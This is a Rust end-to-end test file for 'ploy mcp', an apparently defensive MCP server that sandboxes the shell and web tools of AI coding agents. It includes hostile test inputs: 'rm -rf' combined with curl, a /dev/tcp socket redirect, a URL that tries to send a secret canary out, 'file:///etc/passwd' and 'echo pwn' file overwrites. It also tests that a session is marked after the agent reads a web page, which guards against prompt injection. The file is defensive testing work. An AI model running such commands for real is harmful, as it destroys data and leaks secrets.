//! `ploy mcp` end to end: the real binary as an MCP server over stdio, and
//! rmcp's own client (the official SDK) talking to it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

mod support;

use std::net::TcpListener;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::{RoleClient, RunningService};
use serde_json::{Map, Value, json};
use support::TempDir;
use tokio::io::AsyncBufReadExt;

const CANARY: &str = "sk-mcpCanary7f3e9a1c5b2d4e6f0011";

struct Session {
    client: RunningService<RoleClient, ()>,
    child: tokio::process::Child,
    stderr: tokio::sync::mpsc::UnboundedReceiver<String>,
    /// Shared by the servers of one root (round8 #9: a restart).
    _dir: Arc<TempDir>,
}

/// `ploy mcp` in a fresh root (settings with the profile, a project with a
/// file holding a secret of the server's environment), and a client.
async fn start() -> Session {
    let (dir, child) = spawn();
    connect(Arc::new(dir), child).await
}

/// A client for a server started in `dir`.
async fn connect(dir: Arc<TempDir>, mut child: tokio::process::Child) -> Session {
    let stdout = child.stdout.take().unwrap();
    let stdin = child.stdin.take().unwrap();
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        let mut lines = tokio::io::BufReader::new(stderr).lines();
        while let Ok(Some(line)) = lines.next_line().await {
            let _ = tx.send(line);
        }
    });
    let client = ().serve((stdout, stdin)).await.expect("initialise");
    Session {
        client,
        child,
        stderr: rx,
        _dir: dir,
    }
}

/// The server process in its fresh root, pipes not yet taken.
fn spawn() -> (TempDir, tokio::process::Child) {
    let dir = TempDir::with_config_and_state("mcp");
    dir.write_settings(support::WORKSPACE_PROFILE);
    dir.write("home/proj/data.txt", "a\nb\na\n");
    dir.write("home/proj/leak.txt", format!("key={CANARY}\n"));
    dir.write(
        "hosts",
        "192.0.2.1 html.duckduckgo.com\n192.0.2.1 en.wikipedia.org\n",
    );
    let child = server_in(&dir, &[]);
    (dir, child)
}

/// One more server process in `dir`'s root (the same store and project).
fn server_in(dir: &TempDir, extra: &[&str]) -> tokio::process::Child {
    tokio::process::Command::new(support::PLOY)
        .arg("mcp")
        .args(extra)
        .arg("--hosts")
        .arg(dir.path().join("hosts"))
        .current_dir(dir.path().join("home/proj"))
        .env("PLOY_CONFIG_DIR", dir.config())
        .env("PLOY_STATE_DIR", dir.state())
        .env("HOME", dir.path().join("home"))
        .env("OPENAI_API_KEY", CANARY)
        .env("PLOY_LOG", "info")
        .env_remove("PLOY_MODEL")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap()
}

// proves: REDACT-1 (integrations #9: the protocol layer echoed a client's
// method name, a secret of the server's environment, back in clear)
#[tokio::test]
async fn protocol_errors_that_echo_the_client_are_redacted_too() {
    use tokio::io::AsyncWriteExt;
    let (_dir, mut child) = spawn();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let messages = [
        json!({"jsonrpc":"2.0","id":1,"method":"initialize","params":{
            "protocolVersion":"2025-06-18","capabilities":{},
            "clientInfo":{"name":"t","version":"1"}}}),
        json!({"jsonrpc":"2.0","method":"notifications/initialized"}),
        json!({"jsonrpc":"2.0","id":5,"method":CANARY}),
    ];
    for message in &messages {
        stdin
            .write_all(format!("{message}\n").as_bytes())
            .await
            .unwrap();
    }
    stdin.flush().await.unwrap();
    let mut answer = None;
    while let Some(line) = tokio::time::timeout(Duration::from_secs(60), stdout.next_line())
        .await
        .expect("an answer in time")
        .unwrap()
    {
        assert!(
            !line.contains(CANARY),
            "the secret reached the client: {line}"
        );
        let value: Value = serde_json::from_str(&line).expect("each line stays JSON");
        if value["id"] == json!(5) {
            answer = Some(value);
            break;
        }
    }
    let answer = answer.expect("an answer to the unknown method");
    assert_eq!(answer["error"]["code"], json!(-32601), "{answer}");
    assert!(
        answer.to_string().contains("[REDACTED]"),
        "the echoed method is shown redacted: {answer}"
    );
    drop(stdin);
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait())
        .await
        .expect("ends when stdin closes")
        .unwrap();
    assert!(status.success(), "{status}");
}

fn args(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

async fn call(session: &Session, tool: &'static str, arguments: Value) -> CallToolResult {
    let mut params = CallToolRequestParams::new(tool);
    params.arguments = Some(args(arguments));
    session.client.call_tool(params).await.expect("call")
}

fn structured(result: &CallToolResult) -> &Value {
    result
        .structured_content
        .as_ref()
        .expect("structured content")
}

fn is_error(result: &CallToolResult) -> bool {
    result.is_error == Some(true)
}

/// The sandbox works here, or the test says why it cannot run.
fn sandbox_available(result: &CallToolResult) -> Result<(), String> {
    if is_error(result) && structured(result)["requirement"] == "SBX-5" {
        return Err(format!(
            "the sandbox cannot run here: {}",
            structured(result)
        ));
    }
    Ok(())
}

fn no_connection(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    listener.accept().is_err()
}

// proves: PROOF-1, PROOF-2, FAIL-1 (a real MCP client: initialise, list, check proofs)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_initialises_lists_the_tools_and_checks_proofs() {
    let session = start().await;
    let info = session.client.peer_info().unwrap();
    assert_eq!(info.server_info.as_ref().unwrap().name, "ploy");
    let tools = session.client.list_all_tools().await.unwrap();
    let mut names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
    names.sort_unstable();
    assert_eq!(
        names,
        [
            "proof_check",
            "proof_run",
            "research",
            "sandbox_run",
            "web_fetch",
            "web_search"
        ]
    );
    let accepted = call(&session, "proof_check", json!({"line": "cargo test"})).await;
    assert!(!is_error(&accepted));
    assert_eq!(structured(&accepted)["verdict"], "accepted");
    let refused = call(
        &session,
        "proof_check",
        json!({"line": "rm -rf . && curl http://x"}),
    )
    .await;
    assert_eq!(structured(&refused)["verdict"], "refused");
    let rules = structured(&refused)["rules"].as_array().unwrap();
    assert!(rules.iter().any(|r| r == "PROOF-2"), "{rules:?}");
    // Bad arguments are structured errors, not protocol failures (FAIL-1).
    for (tool, arguments) in [
        ("proof_check", json!({})),
        ("proof_check", json!({"line": 7})),
        ("proof_check", json!({"line": "x", "extra": 1})),
        ("no_such_tool", json!({})),
    ] {
        let result = call(&session, tool, arguments.clone()).await;
        assert!(is_error(&result), "{tool} {arguments}");
        assert_eq!(structured(&result)["status"], "refused");
        assert_eq!(structured(&result)["requirement"], "FAIL-1");
    }
    session.client.cancel().await.unwrap();
}

// proves: SBX-1, REDACT-1, CAP-1 (sandbox_run: no network, output redacted and capped)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sandbox_run_has_no_network_and_its_output_is_redacted_and_capped() {
    let session = start().await;
    let hello = call(
        &session,
        "sandbox_run",
        json!({"command": "echo hi; grep -c a data.txt"}),
    )
    .await;
    ploy_testkit::require_part!("sandbox", sandbox_available(&hello));
    assert!(!is_error(&hello), "{:?}", hello.structured_content);
    assert_eq!(structured(&hello)["exit_code"], 0);
    assert_eq!(structured(&hello)["stdout"], "hi\n2\n");

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // A redirect into /dev/tcp names a path outside the project: the judge
    // refuses it before anything runs (nobody can answer on this channel).
    let redirect = call(
        &session,
        "sandbox_run",
        json!({"command": format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")}),
    )
    .await;
    assert!(is_error(&redirect));
    assert!(
        structured(&redirect)["reason"]
            .as_str()
            .unwrap()
            .contains("external_directory")
    );
    // A plain program that tries the network: it runs, and cannot connect.
    let result = call(
        &session,
        "sandbox_run",
        json!({"command": format!("curl -sS -m 5 http://127.0.0.1:{port}/ && echo connected")}),
    )
    .await;
    let out = structured(&result);
    assert!(!is_error(&result), "{out}");
    assert_ne!(out["exit_code"], 0, "{out}");
    assert!(
        !out["stdout"].as_str().unwrap().contains("connected"),
        "{out}"
    );
    assert!(
        no_connection(&listener),
        "the sandbox reached the host's listener"
    );

    let leak = call(&session, "sandbox_run", json!({"command": "cat leak.txt"})).await;
    let text = structured(&leak).to_string();
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("[REDACTED]"), "{text}");

    let bomb = call(
        &session,
        "sandbox_run",
        json!({"command": "head -c 3000000 /dev/zero | tr '\\0' a; echo done >&2"}),
    )
    .await;
    let out = structured(&bomb);
    let stdout = out["stdout"].as_str().unwrap_or_else(|| panic!("{out}"));
    assert!(stdout.len() <= 51_200 + 64, "{}", stdout.len());
    assert_eq!(out["output_truncated"], true);

    // A project outside the server's project is refused.
    let outside = call(
        &session,
        "sandbox_run",
        json!({"command": "true", "project": "/tmp"}),
    )
    .await;
    assert!(is_error(&outside));
    assert_eq!(structured(&outside)["requirement"], "PERM-1");
    session.client.cancel().await.unwrap();
}

// proves: PERM-7, SBX-6 (a protected folder is not a project: `sandbox_run`
// with `project: ".git"` would write git's objects, refs and HEAD directly;
// found by an outside attacker)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_protected_folder_is_not_a_project() {
    let session = start().await;
    session._dir.write("home/proj/.git/objects/keep", "");
    session._dir.write("home/proj/.claude/keep", "");
    for project in [".git", ".git/objects", "./.git/../.git", ".claude"] {
        let result = call(
            &session,
            "sandbox_run",
            json!({"command": "touch written", "project": project}),
        )
        .await;
        assert!(
            is_error(&result),
            "{project}: {:?}",
            result.structured_content
        );
        assert_eq!(structured(&result)["requirement"], "PERM-7", "{project}");
    }
    let git = session._dir.path().join("home/proj/.git");
    assert!(!git.join("written").exists());
    assert!(!git.join("objects/written").exists());
    session.client.cancel().await.unwrap();
}

// proves: URL-1, FAIL-1, TAINT-1, PERM-3, PERM-5, BEYOND-7 (a refused fetch is a structured error; the
// session is marked first, and commands and fetches to new sites are refused after)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn web_fetch_to_a_private_address_is_a_structured_error_and_marks_the_session() {
    let session = start().await;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    for url in [
        format!("http://127.0.0.1:{port}/"),
        "http://10.0.0.1/".to_string(),
        "http://[::1]/".to_string(),
        format!("http://0x7f.1:{port}/"),
        "file:///etc/passwd".to_string(),
    ] {
        let result = call(&session, "web_fetch", json!({"url": url})).await;
        assert!(is_error(&result), "{url}: {:?}", result.structured_content);
        let out = structured(&result);
        assert_eq!(out["status"], "refused", "{out}");
        // The first marks the session; after it, another site is refused
        // before it is even resolved (BEYOND-7), or as an address (URL-1).
        if out["requirement"] == "BEYOND-7" {
            continue;
        }
        assert_eq!(out["requirement"], "URL-1", "{out}");
        assert!(
            out["result"]["notice"]
                .as_str()
                .unwrap()
                .starts_with("UNTRUSTED CONTENT")
        );
    }
    assert!(no_connection(&listener), "a refused address was dialled");
    // A secret of the server's environment never leaves in a URL (BEYOND-6).
    let exfil = call(
        &session,
        "web_fetch",
        json!({"url": format!("https://example.org/?k={CANARY}")}),
    )
    .await;
    assert!(is_error(&exfil));
    assert!(!structured(&exfil).to_string().contains(CANARY));
    // The session was marked before the reads: commands are now refused.
    let after = call(&session, "sandbox_run", json!({"command": "echo hi"})).await;
    assert!(is_error(&after), "{:?}", after.structured_content);
    assert_eq!(structured(&after)["requirement"], "PERM-3");
    assert!(
        structured(&after)["reason"]
            .as_str()
            .unwrap()
            .contains("PERM-5")
    );
    let proof = call(&session, "proof_run", json!({"line": "grep -c a data.txt"})).await;
    assert_eq!(structured(&proof)["requirement"], "PERM-3");
    // A site not yet visited in the marked session: refused before anything
    // is resolved or dialled, nobody being there to answer (BEYOND-7).
    let new_site = call(
        &session,
        "web_fetch",
        json!({"url": "https://example.org/"}),
    )
    .await;
    assert!(is_error(&new_site), "{:?}", new_site.structured_content);
    assert_eq!(
        structured(&new_site)["requirement"],
        "BEYOND-7",
        "{}",
        structured(&new_site)
    );
    // Checking a proof runs nothing: still answered.
    let check = call(&session, "proof_check", json!({"line": "cargo test"})).await;
    assert!(!is_error(&check));
    session.client.cancel().await.unwrap();
}

// proves: CANCEL-1 (a request the client abandons is cancelled on the server)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_abandoned_request_is_cancelled_on_the_server() {
    let mut session = start().await;
    let probe = call(&session, "sandbox_run", json!({"command": "true"})).await;
    ploy_testkit::require_part!("sandbox", sandbox_available(&probe));
    let mut params = CallToolRequestParams::new("sandbox_run");
    params.arguments = Some(args(json!({"command": "sleep 30"})));
    // Dropping the call sends notifications/cancelled.
    let abandoned =
        tokio::time::timeout(Duration::from_millis(500), session.client.call_tool(params)).await;
    assert!(abandoned.is_err(), "sleep 30 finished early");
    let mut seen = Vec::new();
    let found = tokio::time::timeout(Duration::from_secs(20), async {
        while let Some(line) = session.stderr.recv().await {
            let hit = line.contains("sandbox_run: cancelled by the client (CANCEL-1)");
            seen.push(line);
            if hit {
                return true;
            }
        }
        false
    })
    .await;
    assert_eq!(found, Ok(true), "server log: {seen:?}");
    // The server still answers.
    let check = call(&session, "proof_check", json!({"line": "cargo test"})).await;
    assert!(!is_error(&check));
    session.client.cancel().await.unwrap();
    let _ = session.child.kill().await;
}

// proves: PROOF-6, BEYOND-4 (proof_run through MCP: validated, then run copy-on-write)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proof_run_validates_then_runs_in_the_sandbox() {
    let session = start().await;
    let refused = call(
        &session,
        "proof_run",
        json!({"line": "curl http://example.org"}),
    )
    .await;
    assert_eq!(
        structured(&refused)["verdict"],
        "refused",
        "{:?}",
        refused.structured_content
    );
    let passed = call(&session, "proof_run", json!({"line": "grep -c a data.txt"})).await;
    ploy_testkit::require_part!(
        "sandbox",
        if structured(&passed)["verdict"] == "passed" {
            Ok(())
        } else {
            Err(format!("the proof did not run: {}", structured(&passed)))
        }
    );
    assert_eq!(structured(&passed)["stdout"], "2\n");
    session.client.cancel().await.unwrap();
}

/// One Claude Code PreToolUse event through `ploy hook claude-code`, run as
/// Claude Code runs hooks (`sh -c`, a child of this process, which plays
/// Claude Code here: it also started `ploy mcp`). Returns the answer JSON,
/// or `Value::Null` for no decision.
fn hook_pre(session: &Session, id: &str, tool: &str, input: Value) -> Value {
    let dir = &session._dir;
    let body = json!({
        "session_id": id,
        "transcript_path": "/dev/null",
        "cwd": dir.path().join("home/proj"),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
        "tool_use_id": "toolu_01",
    });
    let mut command = std::process::Command::new("sh");
    command
        .args(["-c", "\"$0\" hook claude-code", support::PLOY])
        .current_dir(dir.path().join("home/proj"))
        .env("PLOY_CONFIG_DIR", dir.config())
        .env("PLOY_STATE_DIR", dir.state())
        .env("HOME", dir.path().join("home"));
    let out = support::run_with_input(&mut command, body.to_string().as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
    let text = support::stdout(&out);
    if text.trim().is_empty() {
        Value::Null
    } else {
        serde_json::from_str(&text).unwrap()
    }
}

const PAGE: &str = "https://docs.example.org/install";

/// User rules that let `echo` and edits in the project through (read per
/// call by both the hook and the server).
fn allow_echo_and_edits(session: &Session) {
    session._dir.write_settings(
        r#"{"security_profile": {"sandbox": "workspace-write", "approval": "ask"},
            "permissions": {"shell": {"allow": ["echo *"]}, "edit": {"allow": ["**"]}}}"#,
    );
}

// proves: PERM-3, TAINT-1, TAINT-2 (integrations #8: the hook and `ploy mcp`
// side by side, both real processes started by one parent as Claude Code
// starts them: a WebFetch that marked the Claude Code session makes the
// hook ask for `mcp__ploy__sandbox_run` and `ploy mcp` itself refuse it,
// while a server another process started stays clean)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_read_through_claude_code_refuses_ploy_mcp_commands() {
    let session = start().await;
    allow_echo_and_edits(&session);
    // Clean, the rules let a writing command run (the control).
    let probe = call(
        &session,
        "sandbox_run",
        json!({"command": "echo ok > before.txt"}),
    )
    .await;
    ploy_testkit::require_part!("sandbox", sandbox_available(&probe));
    assert!(!is_error(&probe), "{:?}", probe.structured_content);
    assert!(session._dir.path().join("home/proj/before.txt").exists());
    let write = json!({"command": "echo pwn > src_main.rs"});
    // Clean: ploy has nothing to add to Claude Code's own question.
    assert_eq!(
        hook_pre(&session, "cc-1", "mcp__ploy__sandbox_run", write.clone()),
        Value::Null
    );
    // Claude Code reads a page: the hook marks its session first.
    assert_eq!(
        hook_pre(
            &session,
            "cc-1",
            "WebFetch",
            json!({"url": PAGE, "prompt": "x"})
        ),
        Value::Null
    );
    // The hook now asks for ploy's own command tools, any server name.
    for (tool, input) in [
        ("mcp__ploy__sandbox_run", write.clone()),
        ("mcp__sbx__proof_run", json!({"line": "cargo test"})),
    ] {
        let answer = hook_pre(&session, "cc-1", tool, input);
        let out = &answer["hookSpecificOutput"];
        assert_eq!(out["permissionDecision"], "ask", "{tool}: {answer}");
        let why = out["permissionDecisionReason"].as_str().unwrap();
        assert!(why.contains("PERM-3") && why.contains(PAGE), "{why}");
    }
    // And the server the same process started refuses them itself (a hook
    // Claude Code skipped, or an answer "yes" to a question ploy cannot see).
    let refused = call(&session, "sandbox_run", write.clone()).await;
    assert!(is_error(&refused), "{:?}", refused.structured_content);
    assert_eq!(structured(&refused)["requirement"], "PERM-3");
    assert!(
        structured(&refused)["reason"]
            .as_str()
            .unwrap()
            .contains(PAGE),
        "{}",
        structured(&refused)
    );
    let proof = call(&session, "proof_run", json!({"line": "grep -c a data.txt"})).await;
    assert_eq!(structured(&proof)["requirement"], "PERM-3");
    let project = session._dir.path().join("home/proj");
    assert!(!project.join("src_main.rs").exists());
    session.client.cancel().await.unwrap();

    // A server started by another process (here a shell that does not
    // exec it) is not that session's: its commands still run.
    let dir = &session._dir;
    let mut other = tokio::process::Command::new("sh")
        .args(["-c", "\"$0\" mcp; exit $?", support::PLOY])
        .current_dir(&project)
        .env("PLOY_CONFIG_DIR", dir.config())
        .env("PLOY_STATE_DIR", dir.state())
        .env("HOME", dir.path().join("home"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let (stdout, stdin) = (other.stdout.take().unwrap(), other.stdin.take().unwrap());
    let client = ().serve((stdout, stdin)).await.expect("initialise");
    let mut params = CallToolRequestParams::new("sandbox_run");
    params.arguments = Some(args(json!({"command": "echo ok > other.txt"})));
    let ran = client.call_tool(params).await.unwrap();
    assert!(!is_error(&ran), "{:?}", ran.structured_content);
    assert!(project.join("other.txt").exists());
    client.cancel().await.unwrap();
}

// proves: PERM-3, TAINT-2 (integrations #8: a session marked in an earlier
// Claude Code process, then resumed: its first hook call in this process
// binds the mark to it, before the MCP call the hook is judging arrives)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resumed_marked_session_binds_at_its_next_hook_call() {
    let session = start().await;
    allow_echo_and_edits(&session);
    {
        let mut store = ploy_store::Store::open(session._dir.state().join("ploy.db")).unwrap();
        let id = store
            .session_conversation_or_create("claude-code", "cc-old", "earlier")
            .unwrap();
        store
            .mark_tainted(
                &id,
                &ploy_policy::TaintMark {
                    reason: "WebFetch brings web text into this session".into(),
                    source: ploy_policy::TaintSource::Url(PAGE.into()),
                },
            )
            .unwrap();
    }
    // Not yet bound to this process: the server alone cannot know.
    let probe = call(&session, "sandbox_run", json!({"command": "true"})).await;
    ploy_testkit::require_part!("sandbox", sandbox_available(&probe));
    assert!(!is_error(&probe), "{:?}", probe.structured_content);
    let write = json!({"command": "echo pwn > src_main.rs"});
    let answer = hook_pre(&session, "cc-old", "mcp__ploy__sandbox_run", write.clone());
    assert_eq!(
        answer["hookSpecificOutput"]["permissionDecision"], "ask",
        "{answer}"
    );
    let refused = call(&session, "sandbox_run", write).await;
    assert_eq!(
        structured(&refused)["requirement"],
        "PERM-3",
        "{:?}",
        refused.structured_content
    );
    assert!(!session._dir.path().join("home/proj/src_main.rs").exists());
    session.client.cancel().await.unwrap();
}

// proves: TAINT-2, TAINT-1, PERM-3 (round8 #9: the mark was kept per server
// process, so a restarted server, or a second one for the same client and
// project, started clean after a page; the session is the project, the
// client's name and `--session`, and a new `--session` name starts clean)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn round8_9_a_restarted_server_keeps_the_mark() {
    let refused_for_the_mark =
        |result: &CallToolResult| is_error(result) && structured(result)["requirement"] == "PERM-3";
    let first = start().await;
    let clean = call(&first, "sandbox_run", json!({"command": "true"})).await;
    assert!(
        !refused_for_the_mark(&clean),
        "{:?}",
        clean.structured_content
    );
    // A page read (refused as an address, but the session is marked first).
    let read = call(&first, "web_fetch", json!({"url": "http://10.0.0.1/"})).await;
    assert!(is_error(&read));
    let after = call(&first, "sandbox_run", json!({"command": "true"})).await;
    assert!(
        refused_for_the_mark(&after),
        "{:?}",
        after.structured_content
    );
    // A second server process for the same client and project, while the
    // first still runs: marked.
    let Session {
        client,
        mut child,
        _dir: dir,
        ..
    } = first;
    let second = connect(dir.clone(), server_in(&dir, &[])).await;
    let result = call(&second, "sandbox_run", json!({"command": "true"})).await;
    assert!(
        refused_for_the_mark(&result),
        "{:?}",
        result.structured_content
    );
    let proof = call(&second, "proof_run", json!({"line": "grep -c a data.txt"})).await;
    assert!(
        refused_for_the_mark(&proof),
        "{:?}",
        proof.structured_content
    );
    // The first restarted: still marked.
    client.cancel().await.unwrap();
    let _ = child.kill().await;
    second.client.cancel().await.unwrap();
    let restarted = connect(dir.clone(), server_in(&dir, &[])).await;
    let result = call(&restarted, "sandbox_run", json!({"command": "true"})).await;
    assert!(
        refused_for_the_mark(&result),
        "{:?}",
        result.structured_content
    );
    restarted.client.cancel().await.unwrap();
    // Twin: the person's new session name starts clean.
    let fresh = connect(dir.clone(), server_in(&dir, &["--session", "task-2"])).await;
    let result = call(&fresh, "sandbox_run", json!({"command": "true"})).await;
    assert!(
        !refused_for_the_mark(&result),
        "{:?}",
        result.structured_content
    );
    fresh.client.cancel().await.unwrap();
    drop(dir);
}
